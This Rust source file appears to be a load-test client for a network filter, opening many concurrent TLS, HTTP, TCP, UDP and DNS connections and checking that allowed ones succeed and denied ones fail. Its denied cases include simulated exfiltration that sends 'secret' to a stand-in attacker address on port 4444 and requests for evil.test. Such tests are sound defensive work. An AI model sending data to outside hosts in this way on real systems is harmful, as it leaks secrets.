//! A client that does everything at once: a thousand connections of each kind that passes and of each that does not.

use std::io::{self, Write};
use std::net::{IpAddr, SocketAddr, ToSocketAddrs};
use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;
use rustls::crypto::ring;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};
use tokio::sync::Barrier;
use tokio_rustls::TlsConnector;

use crate::world::only_root;

const LIMIT: Duration = Duration::from_secs(100);
/// How long a client that is refused without a word waits.
const SILENCE: Duration = Duration::from_secs(30);
/// An address of the attacker's.
const EVIL: &str = "198.51.100.66";
/// The kinds of connections: so many of a hundred are of the kind.
pub(crate) const OF_A_HUNDRED: [(&str, usize); 9] = [
    ("tls", 20),
    ("http", 20),
    ("tcp", 20),
    ("udp", 10),
    ("dns", 10),
    ("denied-tls", 5),
    ("denied-http", 5),
    ("denied-tcp", 5),
    ("denied-dns", 5),
];
/// Requests on each connection of HTTP.
pub(crate) const REQUESTS: usize = 3;

type Failure = Box<dyn std::error::Error + Send + Sync>;

#[derive(Clone)]
struct Client {
    tls: TlsConnector,
    site: IpAddr,
    echo: IpAddr,
    datagrams: IpAddr,
    resolver: SocketAddr,
    together: Arc<Barrier>,
}

/// `count` connections that all begin together, to `site.test`, `echo.test` and `time.test`.
pub(crate) fn load(count: &str, authority: &str) -> Result<(), Failure> {
    let count: usize = count.parse()?;
    let roots = only_root(&std::fs::read_to_string(authority)?);
    let config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
        .with_safe_default_protocol_versions()?
        .with_root_certificates(roots)
        .with_no_client_auth();
    let resolver = std::fs::read_to_string("/etc/resolv.conf")?;
    let resolver = resolver.lines().find_map(|line| line.strip_prefix("nameserver "));
    let client = Client {
        tls: TlsConnector::from(Arc::new(config)),
        site: resolve("site.test")?,
        echo: resolve("echo.test")?,
        datagrams: resolve("time.test")?,
        resolver: SocketAddr::new(resolver.ok_or("no resolver")?.trim().parse()?, 53),
        together: Arc::new(Barrier::new(count)),
    };
    let kinds: Vec<&str> =
        OF_A_HUNDRED.iter().flat_map(|(kind, number)| std::iter::repeat_n(*kind, *number)).collect();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let all = async move {
        let mut tasks = tokio::task::JoinSet::new();
        for number in 0..count {
            let (client, kind) = (client.clone(), kinds[number % kinds.len()]);
            tasks.spawn(async move {
                client.together.wait().await;
                client.connect(kind, number).await.map_err(|error| format!("{kind} {number}: {error}"))
            });
        }
        while let Some(done) = tasks.join_next().await {
            done??;
        }
        Ok::<(), Failure>(())
    };
    runtime.block_on(async move { tokio::time::timeout(LIMIT, all).await })??;
    writeln!(io::stdout(), "{count} connections")?;
    Ok(())
}

fn resolve(name: &str) -> Result<IpAddr, Failure> {
    let mut addresses = (name, 0).to_socket_addrs()?.map(|address| address.ip());
    Ok(addresses.find(IpAddr::is_ipv4).ok_or("no address")?)
}

impl Client {
    async fn connect(&self, kind: &str, number: usize) -> Result<(), Failure> {
        let size = 1 + number * 37;
        match kind {
            "tls" => {
                let stream = TcpStream::connect((self.site, 443)).await?;
                let mut stream = self.tls.connect("site.test".try_into()?, stream).await?;
                let head =
                    format!("GET /bytes/{size} HTTP/1.1\r\nhost: site.test\r\nconnection: close\r\n\r\n");
                stream.write_all(head.as_bytes()).await?;
                let mut answer = Vec::new();
                stream.read_to_end(&mut answer).await?;
                has(answer.len() > size)
            }
            "http" => {
                let mut stream = TcpStream::connect((self.site, 80)).await?;
                for request in 1..=REQUESTS {
                    let close = if request == REQUESTS { "connection: close\r\n" } else { "" };
                    let (body, path) = (vec![b'x'; size * request], "/echo");
                    let head = format!(
                        "POST {path} HTTP/1.1\r\nhost: site.test\r\n{close}content-length: {}\r\n\r\n",
                        body.len()
                    );
                    stream.write_all(&[head.as_bytes(), &body].concat()).await?;
                    let mut head = Vec::new();
                    while !head.ends_with(b"\r\n\r\n") {
                        head.push(stream.read_u8().await?);
                    }
                    let mut answer = vec![0; body.len()];
                    stream.read_exact(&mut answer).await?;
                    has(answer == body)?;
                }
                has(stream.read(&mut [0]).await? == 0)
            }
            "tcp" => {
                let mut stream = TcpStream::connect((self.echo, 7007)).await?;
                let said = vec![0xff; size];
                stream.write_all(&said).await?;
                stream.shutdown().await?;
                let mut answer = Vec::new();
                stream.read_to_end(&mut answer).await?;
                has(answer == said)
            }
            "udp" => {
                let mut answer = vec![0; 70_000];
                let said = vec![7; size % 1000 + 1];
                let length = ask(SocketAddr::new(self.datagrams, 123), &said, &mut answer).await?;
                has(answer[..length] == said)
            }
            "dns" | "denied-dns" => {
                let name: &[u8] = if kind == "dns" { b"\x04site\x04test\0" } else { b"\x04evil\x04test\0" };
                let id = (number as u16).to_be_bytes();
                let question = [&id[..], &[1, 0, 0, 1, 0, 0, 0, 0, 0, 0], name, &[0, 1, 0, 1]].concat();
                let mut answer = vec![0; 1500];
                let length = ask(self.resolver, &question, &mut answer).await?;
                has(length > question.len() - 2 && answer[..2] == id)
            }
            "denied-tls" => {
                let stream = TcpStream::connect((self.site, 443)).await?;
                has(self.tls.connect("evil.test".try_into()?, stream).await.is_err())
            }
            "denied-http" => {
                let mut stream = TcpStream::connect((self.site, 80)).await?;
                stream.write_all(b"GET / HTTP/1.1\r\nhost: evil.test\r\n\r\n").await?;
                let mut answer = Vec::new();
                stream.read_to_end(&mut answer).await?;
                has(answer.starts_with(b"HTTP/1.1 403"))
            }
            // Half of them are UDP.
            _ if number.is_multiple_of(2) => {
                let socket = UdpSocket::bind("0.0.0.0:0").await?;
                socket.connect((EVIL, 4444)).await?;
                socket.send(b"secret").await?;
                let refused = tokio::time::timeout(SILENCE, socket.recv(&mut [0; 9])).await?;
                has(refused.is_err())
            }
            _ => {
                let mut stream = TcpStream::connect((EVIL, 4444)).await?;
                // The refusal may be quicker than the job.
                let said = stream.write_all(b"secret").await;
                has(said.is_err() || stream.read(&mut [0; 9]).await.is_err())
            }
        }
    }
}

/// Sends a datagram and waits for the answer; its length.
async fn ask(server: SocketAddr, question: &[u8], answer: &mut [u8]) -> Result<usize, Failure> {
    let socket = UdpSocket::bind("0.0.0.0:0").await?;
    socket.connect(server).await?;
    socket.send(question).await?;
    Ok(tokio::time::timeout(SILENCE, socket.recv(answer)).await??)
}

fn has(what: bool) -> Result<(), Failure> {
    if what { Ok(()) } else { Err("not what was expected".into()) }
}
